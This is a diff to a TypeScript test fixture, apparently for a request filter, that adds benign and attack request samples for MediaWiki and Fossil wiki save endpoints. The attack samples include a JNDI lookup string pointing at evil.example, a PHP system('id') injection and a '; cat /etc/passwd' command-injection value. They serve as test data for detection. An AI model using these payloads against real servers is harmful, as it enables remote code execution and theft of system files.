@@ -477,7 +477,12 @@ const KINDS: HonestKinds = {
     ],
   },
   'a page of a wiki with code in it': {
-    honest: [filled({ wpTextbox1: ARTICLE }), filled({ wikitext: ARTICLE }), filled({ wpInput: ARTICLE })],
+    honest: [
+      filled({ wpTextbox1: ARTICLE }),
+      filled({ wikitext: ARTICLE }),
+      filled({ wpInput: ARTICLE }),
+      filled({ savetext: ARTICLE }),
+    ],
     attacks: [
       filled({ wpTextbox1: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }),
       filled({ note: ARTICLE }),
@@ -486,11 +491,21 @@ const KINDS: HonestKinds = {
       asked('/s', { wikitext: ARTICLE }),
     ],
   },
+  'the source of a page that Fossil saves': {
+    honest: ['/wikiajax/save', '/repo/wikiajax/preview'].map(path => filled({ content: ARTICLE }, path)),
+    attacks: [
+      filled({ content: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }, '/wikiajax/save'),
+      filled({ content: '<?php system("id"); ?>' }, '/wikiajax/save'),
+      filled({ page: '; cat /etc/passwd' }, '/wikiajax/save'),
+      filled({ content: ARTICLE }, '/x/save'),
+    ],
+  },
   'the source of a page that the interface of MediaWiki takes': {
     honest: ['/api.php', '/w/api.php'].map(path => filled({ action: 'stashedit', text: ARTICLE }, path)),
     attacks: [
       filled({ text: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }, '/api.php'),
       filled({ text: '<?php system("id"); ?>' }, '/api.php'),
+      filled({ text: ARTICLE }, '/wikiajax/save'),
       filled({ title: ARTICLE }, '/api.php'),
       filled({ text: ARTICLE }, '/shop/v1/api.php'),
       filled({ text: ARTICLE }, '/api.php/x'),
